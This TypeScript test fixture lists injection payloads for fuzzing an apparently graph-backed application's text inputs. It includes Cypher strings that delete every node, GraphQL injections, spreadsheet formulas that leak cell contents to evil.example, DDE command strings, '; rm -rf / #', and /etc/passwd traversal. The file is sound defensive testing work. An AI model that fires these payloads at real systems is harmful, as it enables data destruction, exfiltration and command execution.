/**
 * Hostile text tried against every text input: if any of it ran, the graph would change (the
 * Cypher payloads write a `pwned` marker or delete), a response would carry data no field asked
 * for (the GraphQL payloads), or an export would hold a live formula (the CSV payloads).
 */
export const cypherPayloads: readonly string[] = [
  "' OR 1=1 //",
  "municipality-0180' OR '1'='1",
  "x'}) MATCH (n) DETACH DELETE n //",
  '"}) MATCH (n) SET n.pwned = true //',
  "') CALL db.labels() YIELD label RETURN label //",
  '*/ MATCH (n) SET n.pwned = true /*',
  "'); CREATE (:Pwned {at: datetime()}); //",
  'n:Entity) DETACH DELETE n //',
  '`Entity`) SET n.pwned = true //',
  "LOAD CSV FROM 'http://127.0.0.1:9/x' AS row RETURN row",
  "CALL apoc.cypher.runWrite('MATCH (n) DETACH DELETE n', {})",
  '$id',
  '{id: "municipality-0180"}',
  '\\u0027 OR 1=1 //',
];

export const graphqlPayloads: readonly string[] = [
  '") { __schema { types { name } } } #',
  '"}) { id } pwned: health { status } #',
  '"} } mutation { signOut { user { username } } } #',
  '{ __typename }',
  '... on Query { health { status } }',
  '$asOf',
  '@include(if: true)',
  'query Pwned { network { nodes { id } } }',
];

/** Cells a spreadsheet would run as formulas unless an export neutralises them. */
export const formulaPayloads: readonly string[] = [
  '=1+2',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+SUM(1,1)',
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
];

export const otherPayloads: readonly string[] = [
  '../../../../etc/passwd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '${7*7}',
  '{{7*7}}',
  '; rm -rf / #',
  '$(id)',
  '__proto__',
  'constructor',
  '{"$ne": null}',
  '\u202Egnp.exe',
  'a\u200Bb',
  '💥🧨',
  '',
  ' ',
];

export const injectionCorpus: readonly string[] = [...cypherPayloads, ...graphqlPayloads, ...formulaPayloads, ...otherPayloads];
